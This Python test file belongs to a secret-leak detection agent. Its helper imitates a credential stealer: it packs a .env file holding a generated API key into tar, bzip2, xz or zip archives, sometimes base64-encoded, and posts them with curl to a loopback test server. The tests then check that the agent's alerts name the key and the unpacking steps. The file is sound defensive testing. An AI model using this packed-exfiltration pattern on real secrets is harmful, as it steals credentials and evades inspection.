"""Loot that leaves packed (issue 15 item 2): a stealer tars and gzips (or bzip2s, or xzs) what
it found, or zips it to a pipe, sometimes base64s the archive, and posts it with no
Content-Encoding and no archive content type. curl in the test cgroup sends it to the loopback
server; the alert must name the key's format and say how it was unpacked, and the key appears
in no output.
"""

import json
import subprocess

from kharness.servers import sha256

ALERT_TIMEOUT = 5.0


def _openai(alert):
    return (alert.get("secret") or {}).get("provider") == "openai"


def _packed_upload(clients, http_server, curl, scratch, registry, pack, packer="tar czf -"):
    key = registry.new("openai")
    loot = scratch / "loot"
    loot.mkdir()
    (loot / ".env").write_text(f"OPENAI_API_KEY={key}\n")
    (loot / "README").write_text("nothing to see\n")
    archive = scratch / "loot.bin"
    # Through a pipe, as a stealer streams it: zip then writes each entry's sizes after its data.
    subprocess.run(["sh", "-c", f"cd {loot} && {packer} .env README {pack} | cat > {archive}"],
                   check=True)
    clients.run(curl.http(http_server, "/upload") + ["--data-binary", f"@{archive}"])
    [req] = http_server.wait_for_requests(1)
    assert req.body_sha256 == sha256(archive.read_bytes())


def test_tar_gz_posted_raw_alerts_with_the_unpacking_steps(
        agent, clients, http_server, curl, registry, scratch):
    _packed_upload(clients, http_server, curl, scratch, registry, "")
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a tar.gz upload\n{agent.diagnostics()}"
    alert = alerts[0]
    # The body decoder inflates it as it streams; the tar's file holds the key as it was
    # written, so the first place it is found may be the inflated body or the file itself.
    decoding = alert["evidence"]["decoding"]
    assert decoding[:2] == ["http1", "gzip(sniffed)"], agent.registry.redact(json.dumps(alert))
    assert alert["secret"]["type"] == "openai-project-key"
    assert alert["process"]["comm"] == "curl"


def test_base64_of_a_tar_gz_alerts(agent, clients, http_server, curl, registry, scratch):
    _packed_upload(clients, http_server, curl, scratch, registry, "| base64 -w0")
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a base64 tar.gz upload\n{agent.diagnostics()}"
    decoding = alerts[0]["evidence"]["decoding"]
    assert decoding[-3:] == ["base64", "gzip", "tar"], agent.registry.redact(json.dumps(alerts))


def _decoding(agent):
    alerts = agent.wait_for_alerts(_openai, timeout=ALERT_TIMEOUT)
    assert alerts, f"no alert for a packed upload\n{agent.diagnostics()}"
    assert alerts[0]["secret"]["type"] == "openai-project-key"
    assert alerts[0]["process"]["comm"] == "curl"
    return alerts[0]["evidence"]["decoding"]


def test_tar_bz2_posted_raw_is_unpacked(agent, clients, http_server, curl, registry, scratch):
    _packed_upload(clients, http_server, curl, scratch, registry, "", packer="tar cjf -")
    decoding = _decoding(agent)
    assert decoding[:2] == ["http1", "bzip2(sniffed)"], decoding


def test_base64_of_a_tar_xz_is_unpacked(agent, clients, http_server, curl, registry, scratch):
    _packed_upload(clients, http_server, curl, scratch, registry, "| base64 -w0",
                   packer="tar cJf -")
    decoding = _decoding(agent)
    assert decoding[-3:] == ["base64", "xz", "tar"], decoding


def test_zip_streamed_to_a_pipe_is_unpacked_entry_by_entry(
        agent, clients, http_server, curl, registry, scratch):
    # `zip -` on a pipe sets bit 3: sizes in data descriptors after each entry.
    _packed_upload(clients, http_server, curl, scratch, registry, "", packer="zip -q -")
    assert (scratch / "loot.bin").read_bytes()[6] & 0x08, "zip did not stream"
    decoding = _decoding(agent)
    assert "zip" in decoding, decoding
    assert agent.counter("undeclared_compressed") == 0  # no tar.gz here: zip's own deflate
    assert agent.counter("undeclared_unsupported") == 0
